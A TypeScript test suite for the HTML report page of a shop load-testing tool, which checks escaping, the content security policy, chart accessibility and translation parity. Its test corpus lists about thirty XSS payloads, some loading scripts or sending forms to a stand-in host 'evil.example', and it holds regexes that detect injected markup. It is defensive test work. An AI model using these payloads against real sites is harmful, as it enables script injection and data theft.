import { describe, expect, test } from "bun:test";
import { createHash } from "node:crypto";
import { curveOf } from "../curve.ts";
import { rehearsalDefaults } from "../plan.ts";
import { reportOf, type RehearsalReport } from "../report.ts";
import { Series } from "../series.ts";
import type { ShopReply } from "../shop-client.ts";
import { Tally } from "../tally.ts";
import { escapeHtml, html, Markup } from "./markup.ts";
import { renderReportPage } from "./report-page.ts";
import { problemsShownMax } from "./summary.ts";
import { catalogue, languages, type Language } from "./words.ts";

const digest = (text: string) => createHash("sha256").update(text).digest("base64");
const render = (report: RehearsalReport, spoken: readonly Language[] = languages) =>
  renderReportPage(report, { languages: spoken, digest });

const yes: ShopReply = { kind: "ok", status: 201, code: 0, reason: "ok", data: {}, body: "b", replayed: false, latencyMs: 4 };
const refused = (reason: string): ShopReply => ({ ...yes, kind: "no", status: 409, reason });

/** A run of so many seconds with a bit of everything, and with `name` wherever a name or an answer of a shop may stand. */
function reportWith(name: string, seconds = 8): RehearsalReport {
  const series = new Series(0);
  const tally = new Tally(series);
  const at = (ms: number) => ({ dueMs: ms, sentMs: ms, answeredMs: ms });
  tally.polled({ ...yes, status: 200 }, -900);
  for (let second = 0; second < seconds; second++) {
    tally.purchaseAnswered(`k${second}`, yes, at(second * 1000));
    for (const reason of ["all_taken", "sold_out", name, "a", "b", "c", "d"])
      tally.purchaseAnswered(`n${second}`, refused(reason), at(second * 1000 + 5));
    tally.stock.push({ atMs: second * 1000, available: Math.max(0, 2 - second), held: second === 1 ? 1 : 0, sold: second > 1 ? 2 : 0 });
  }
  tally.purchaseAnswered("lost", { ...yes, kind: "unknown", status: undefined, reason: "connection" }, at(100));
  tally.notSent(50);
  const options = {
    ...rehearsalDefaults,
    stock: 2,
    buyers: 9,
    seed: 1,
    curve: curveOf("spike", { perSecond: 20, durationMs: seconds * 1000 }),
    lead: { ms: 1_000, pollsPerSecond: 1 },
  };
  return reportOf({
    options,
    result: {
      tally,
      seconds: series.data(),
      finalOrders: [{ state: name, refunds: [{ reason: name, state: "done", amountMinor: 1 }] }],
      stormMs: 8_000,
      elapsedMs: 9_000,
      cameToRest: true,
    },
    record: { verdict: "valid", checks: [{ id: name, verdict: "valid", text: name }], problems: [] },
    verify: {
      verdict: "invalid",
      checks: [{ id: "I1", verdict: "invalid", text: name }],
      problems: [name, ...Array.from({ length: 60 }, () => name)],
    },
    halted: { by: "guard", text: name },
    target: {
      kind: "deployment",
      url: name,
      sale_id: name,
      product_id: name,
      name,
      like: { id: name, name },
      payments: "none",
      limits: { error_share_max: 0.05, p99_max_ms: 2_000 },
      remains: { status: name, purchases: { [name]: 1 }, buyers: 1, stock: {} },
    },
    environment: {
      client: { version: name, runtime: name, platform: name, cpu: name, cores: 2, memory_bytes: 2 ** 34 },
      server: { version: name, environment: name, commit: name },
    },
    beganAt: name,
  });
}

/** What attackers put into names: out of text, attributes, comments, styles, titles and SVG. */
const corpus = [
  "<script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  "` onmouseover=alert(1) `",
  '" onfocus=alert(1) autofocus="',
  "<a href=javascript:alert(1)>x</a>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "--><script>alert(1)</script>",
  "]]><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<style>@import url(//evil.example/x)</style>",
  "<link rel=stylesheet href=//evil.example>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<base href=//evil.example>",
  "<form action=//evil.example><input name=x>",
  "</svg><script>alert(1)</script>",
  "</table><script>alert(1)</script>",
  "<sCrIpT/src=//evil.example></sCrIpT>",
  "<details open ontoggle=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x>",
  "{count} {url} ${alert(1)} {{constructor}}",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\u202Egnp.exe\u2066",
  "\u0000\u0008\u001B[2J",
  "a\u2028b\u2029c",
  "＜script＞alert(1)＜/script＞",
  "𝕏<b>𝕏</b>",
];

describe("[J4] names of the shop stay text", () => {
  test.each(corpus.map((name) => [name] as const))("%j", (name) => {
    const spoken: (readonly Language[])[] = [["en"], ["zh"], ["en", "zh"]];
    for (const one of spoken) {
      const page = render(reportWith(name), one);
      expect(tagsOf(page)).toEqual(tagsOf(render(reportWith("lamp"), one)));
      expect(page).toContain(escapeHtml(name));
      // Nothing that hides, moves or turns text is left.
      expect(page).not.toMatch(/[\p{Bidi_Control}\u2028\u2029]|(?!\n)\p{Cc}/u);
    }
  });

  test("negative control: the same corpus put in without escaping changes the page's tags", () => {
    const clean = tagsOf(render(reportWith("lamp")));
    const raw = (name: string) => tagsOf(render(reportWith("lamp")).replaceAll(">lamp<", `>${name}<`));
    expect(corpus.filter((name) => JSON.stringify(raw(name)) !== JSON.stringify(clean)).length).toBeGreaterThan(20);
  });
});

/** Every tag with the names of its attributes, as a browser would see them in well-formed HTML: what an injection changes. */
function tagsOf(page: string): string[] {
  return [...page.matchAll(/<(\/?[a-z!][^\s/>]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/gi)].map(
    ([, name, rest = ""]) => `${name} ${[...rest.matchAll(/([a-z-]+)(?==|\s|$)/gi)].length > 0 ? attributesOf(rest) : ""}`,
  );
}
const attributesOf = (rest: string) => [...rest.replaceAll(/"[^"]*"/g, '""').matchAll(/[a-z-]+/gi)].map(([name]) => name).join(",");

describe("the page", () => {
  const page = render(reportWith("lamp"));

  test("[J4] asks nobody for anything: no script, no address, no style but its own, and a policy that says so", () => {
    expect(page).not.toMatch(/<script|<link|<img|<iframe|<object|<embed|@import|url\(|\son[a-z]+=|\sstyle=|\ssrc=|\shref=/i);
    const [, sheet = ""] = /<style>([\s\S]*?)<\/style>/.exec(page) ?? [];
    const [, policy = ""] = /Content-Security-Policy"\s+content="([^"]*)"/.exec(page) ?? [];
    expect(policy).toBe(
      `default-src 'none'; style-src 'sha256-${digest(sheet)}'; base-uri 'none'; form-action 'none'`.replaceAll("'", "&#39;"),
    );
  });

  test("[J4] has four charts, each named, described, and beside the table it was drawn from", () => {
    for (const id of ["pace", "answers", "latency", "stock"]) {
      const [, figure = ""] = new RegExp(`<figure class="card" id="${id}">([\\s\\S]*?)</figure>`).exec(page) ?? [];
      expect(figure, id).toContain(`role="img"`);
      expect(figure, id).toContain(`aria-labelledby="${id}-title ${id}-hint"`);
      expect(figure, id).toContain(`id="${id}-title"`);
      expect(figure, id).toContain(`id="${id}-hint"`);
      const rows = figure.match(/<th scope="row">/g) ?? [];
      expect(rows.length, id).toBeGreaterThanOrEqual(8);
      expect(figure, id).toContain("<caption>");
    }
    expect(page).not.toMatch(/NaN|Infinity|undefined|\[object/);
  });

  test("says how it went, what broke and what remains", () => {
    const hidden = reportWith("lamp").problems.length - problemsShownMax;
    const { invalid, remains, not_sent_warning: notSent } = catalogue.en;
    const said = [invalid, catalogue.zh.invalid, remains, notSent.replace("{count}", "1"), `and ${hidden} more`];
    expect(said.filter((text) => !page.includes(text))).toEqual([]);
  });

  test("in one language it has no switch and nothing of the other", () => {
    const zh = render(reportWith("lamp"), ["zh"]);
    expect(zh).toContain('<html lang="zh-CN">');
    expect(zh).not.toContain("radio");
    expect(zh).toContain(catalogue.zh.chart_stock);
    expect(zh).not.toContain(catalogue.en.chart_stock);
  });

  test("ids are unique, and whatever is referred to is there", () => {
    const ids = [...page.matchAll(/\sid="([^"]+)"/g)].map(([, id]) => id ?? "");
    expect(new Set(ids).size).toBe(ids.length);
    const named = [...page.matchAll(/aria-labelledby="([^"]+)"|for="([^"]+)"/g)].flatMap(([, a, b]) => (a ?? b ?? "").split(" "));
    expect(named.filter((id) => !ids.includes(id))).toEqual([]);
  });

  test("an hour of seconds is put together: the page stays small", () => {
    expect(render(reportWith("lamp", 3_600)).length).toBeLessThan(1_000_000);
  });

  test("the planned rate of a run that was stopped ends where the run did", () => {
    const whole = reportWith("lamp");
    const stopped = { ...whole, seconds: whole.seconds.filter(({ second }) => second < 4) };
    const [, points = ""] = /<polyline class="line c-plan dashed" points="([^"]+)"/.exec(render(stopped)) ?? [];
    const across = points.split(" ").map((point) => Number(point.split(",")[0]));
    expect(across.length).toBeGreaterThan(1);
    expect(Math.max(...across)).toBeLessThanOrEqual(748);
  });

  test("a run in which nothing happened has a page, too", () => {
    expect(render({ ...reportWith("lamp"), seconds: [], stock_over_time: [] })).toContain(catalogue.en.no_data);
  });
});

describe("words", () => {
  const names = (message: string) => (message.match(/\{\w+\}/g) ?? []).toSorted();

  test.each(languages.filter((language) => language !== "en").map((language) => [language] as const))(
    "[J4] %s says everything that English says, with the same values filled in",
    (language) => {
      expect(Object.keys(catalogue[language]).toSorted()).toEqual(Object.keys(catalogue.en).toSorted());
      for (const [key, message] of Object.entries(catalogue.en)) {
        // Equal keys, as the line above holds.
        const other = catalogue[language][key as keyof typeof catalogue.en];
        expect([key, names(other)]).toEqual([key, names(message)]);
        expect(other.trim()).toBe(other);
        expect(other).not.toBe("");
      }
    },
  );

  test("Chinese is Chinese: but for figures and names, every message has a Chinese character", () => {
    const without = Object.entries(catalogue.zh).filter(([, message]) => !/\p{Script=Han}/u.test(message));
    expect(without).toEqual([]);
  });
});

test("what is escaped once stays escaped once, and what is markup stays markup", () => {
  const inner = html`<b>${"<i>"}</b>`;
  expect(html`${[inner, "&", 5, undefined]}`.text).toBe("<b>&lt;i&gt;</b>&amp;5");
  expect(html`${new Markup("<hr>")}`.text).toBe("<hr>");
});
